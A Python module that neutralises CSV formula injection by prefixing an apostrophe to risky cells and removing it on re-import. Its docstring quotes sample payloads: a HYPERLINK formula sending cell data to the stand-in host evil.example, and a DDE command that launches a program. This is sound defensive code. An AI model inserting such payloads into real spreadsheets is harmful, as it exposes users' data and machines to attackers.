"""CSV injection: the one rule for every CSV the program writes for a spreadsheet, and back.

A directory entry may come from a stranger's list, and a name or a note may hold
``=HYPERLINK("http://evil.example/?"&A1,"click")``, ``@SUM(…)`` or ``-2+3+cmd|' /C calc'!A0``.
A spreadsheet opening a CSV runs such a cell as a formula: it sends the sheet's other cells
to a stranger's server when clicked, or (in older Excel) starts a program. So every cell a
spreadsheet would read as a formula is written with a leading apostrophe (OWASP's advice),
the spreadsheet's own mark for "this is text": a spreadsheet reads the cell as text (some
show the apostrophe before it) and never runs it.

What starts a formula: ``=``, ``+``, ``-``, ``@``, a tab or a line break, also after
leading spaces, and the full-width ``＝ ＋ － ＠``. Left as they are:

- a plain negative number (``-12``, ``-3.5``, ``-3,5``): it holds no letter, so no
  function, cell or program, and a spreadsheet reads it as the number it is; an apostrophe
  would make it a text that no sum counts;
- nothing else. A phone number gets the apostrophe too (``'+380 44 123 4567``), which is
  what keeps it whole in a spreadsheet: without it ``+380441234567`` is read as the number
  380441234567, its plus gone (shown as 3.80441E+11), and ``+380 44 123 4567`` as a
  formula; with it, the sheet keeps the text as written, the way people type a phone
  number into Excel.

Reading such a file back (``recipients import``, ``log merge``) takes the apostrophe away
again with :func:`unneutralise`, so the values are exactly what was exported. A cell that
itself starts with apostrophes before a formula (``'=x``) gets one more, so that the
apostrophe taken away on reading is always the one added: the round trip holds for every
text (tests/core/common/test_formulas.py).
"""

from __future__ import annotations

import re

FORMULA_SIGNS = "=+-@\t\r\n＝＋－＠"  # what a cell a spreadsheet runs starts with (after spaces)
_FORMULA_STARTS = frozenset(FORMULA_SIGNS)
_LOOKED_AT = _FORMULA_STARTS | {" ", "'"}  # a cell starting otherwise is written as it is
_NEGATIVE_NUMBER = re.compile(r"-\d+(?:[.,]\d+)?")


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula (see the module's words)."""
    lead = cell.lstrip(" ")
    return lead[:1] in _FORMULA_STARTS and _NEGATIVE_NUMBER.fullmatch(lead) is None


def neutralise(cell: str) -> str:
    """``cell`` as a CSV for a spreadsheet holds it: with a leading apostrophe if a
    spreadsheet would run it as a formula, also behind apostrophes of its own."""
    if not cell or cell[0] not in _LOOKED_AT:  # nearly every cell: one look at its first character
        return cell
    return "'" + cell if runs_as_formula(cell.lstrip("'")) else cell


def unneutralise(cell: str) -> str:
    """The cell as it was before :func:`neutralise`: the apostrophe it added is taken away,
    and only that one (``'tis`` and ``'s-Hertogenbosch`` are kept as they are)."""
    if cell[:1] == "'" and runs_as_formula(cell.lstrip("'")):
        return cell[1:]
    return cell
